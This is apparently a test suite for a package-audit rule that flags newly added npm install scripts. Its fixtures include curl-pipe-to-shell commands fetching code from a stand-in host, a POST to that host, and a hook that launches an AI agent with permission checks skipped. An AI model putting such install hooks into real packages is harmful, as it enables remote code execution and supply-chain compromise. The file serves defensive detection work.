import { fact } from '../support/facts.js'
import { casesOf } from '../support/heuristics.js'

const script = (command: string, file = '', event = 'postinstall') =>
  fact(
    'install.script',
    `${event}: ${command}`,
    { event, command, file, hash: file === '' ? '' : 'a1b2', gyp: false },
    { reach: 'install', file: 'package.json' },
  )
const onInstall = { reach: 'install' as const, file: 'setup.js' }

casesOf('install-script-added', ({ fires, silent }) => {
  const hook = script('node setup.js', 'setup.js')
  fires(
    'one that downloads and runs',
    {
      before: [],
      facts: [
        hook,
        fact(
          'process.spawn',
          'curl -fsSL https://giftshop.example/i | bash',
          { command: 'curl -fsSL https://giftshop.example/i | bash', shell: true, downloads: true },
          onInstall,
        ),
      ],
    },
    { severity: 'critical', message: /postinstall now runs .node setup\.js.; it downloads and runs/ },
  )
  fires(
    'one whose code is obfuscated',
    { before: [], facts: [hook, fact('code.obfuscated', 'hex-names', {}, onInstall)] },
    { severity: 'critical' },
  )
  fires(
    'one whose code cannot be read',
    {
      before: [],
      facts: [
        hook,
        fact('file.opaque', 'too-large 00', { why: 'too-large', code: true, path: 'bundle.js' }, onInstall),
      ],
    },
    { severity: 'critical' },
  )
  fires(
    'one that starts an agent',
    {
      before: [],
      facts: [hook, fact('agent.invoke', 'claude -p', { binary: 'claude', skipPermissions: true }, onInstall)],
    },
    { severity: 'critical' },
  )
  fires(
    'one that reaches a stranger',
    {
      before: [],
      facts: [hook, fact('net.egress', 'POST giftshop.example', { host: 'giftshop.example', carries: [] }, onInstall)],
    },
    { severity: 'high' },
  )
  fires(
    'one that runs what the package does not hold',
    { before: [], facts: [script('npx -y helper')] },
    { severity: 'high' },
  )
  fires(
    'a line for the shell',
    { before: [], facts: [script('curl -s https://giftshop.example/i | sh')] },
    { severity: 'critical' },
  )

  silent('one that prints', { before: [], facts: [hook] }, 'medium')
  silent(
    'one that counts installations at its vendor',
    {
      before: [],
      facts: [
        hook,
        fact(
          'net.egress',
          'POST telemetry.tallybird.example',
          { host: 'telemetry.tallybird.example', carries: ['recon:platform'] },
          onInstall,
        ),
      ],
    },
    'medium',
  )
  silent(
    'a native module that is built',
    { before: [], facts: [script('prebuild-install || node-gyp rebuild')] },
    'medium',
  )
  silent('one that was there before', { before: [hook], facts: [hook] })
  silent('a first audit', { facts: [hook] })

  silent(
    'a known tool by the way to its file',
    {
      before: [],
      facts: [
        script('patch-package || (cd ../../.. && node ./node_modules/patch-package/index.js --patch-dir ./x) || true'),
      ],
    },
    'medium',
  )
  fires(
    'a way that only begins at a known tool',
    { before: [], facts: [script('patch-package || (cd .. && ./node_modules/patch-package/../helper/run)')] },
    { severity: 'high' },
  )
})
